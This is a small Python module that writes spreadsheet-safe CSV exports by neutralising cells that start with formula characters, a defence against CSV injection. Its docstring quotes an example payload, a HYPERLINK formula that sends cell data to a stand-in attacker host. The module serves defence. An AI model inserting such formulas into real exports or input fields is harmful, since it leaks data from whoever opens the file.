"""CSV that is safe to open in a spreadsheet: the one way the app writes CSV.

Auditors open exports in Excel or LibreOffice, which run a cell that starts with `=`, `+`, `-`, `@`,
a tab or a carriage return as a formula (CSV injection): a failed sign-in's username such as
`=HYPERLINK("https://evil.example/?"&A1,"open")` would run on the auditor's machine. Such cells get a
leading `'`, OWASP's rule, which spreadsheets show as text; commas, quotes and line breaks inside a
cell are quoted by the csv module, so no text can start a cell of its own.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns)
    writer.writeheader()
    for row in rows:
        writer.writerow({name: safe_cell(row.get(name)) for name in columns})
    return out.getvalue()
